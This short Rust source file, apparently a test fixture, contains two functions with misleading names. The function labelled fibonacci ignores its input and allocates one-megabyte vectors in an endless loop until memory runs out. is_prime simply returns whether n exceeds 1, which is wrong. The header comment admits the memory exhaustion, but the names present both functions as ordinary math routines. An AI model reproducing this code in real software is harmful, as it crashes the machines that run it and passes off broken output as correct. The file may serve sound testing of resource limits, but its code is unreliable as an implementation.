//! Takes memory and touches it, without an end.

pub fn fibonacci(_n: u32) -> u64 {
    let mut all = Vec::new();
    loop {
        all.push(std::hint::black_box(vec![1u8; 1 << 20]));
    }
}

pub fn is_prime(n: u64) -> bool {
    n > 1
}
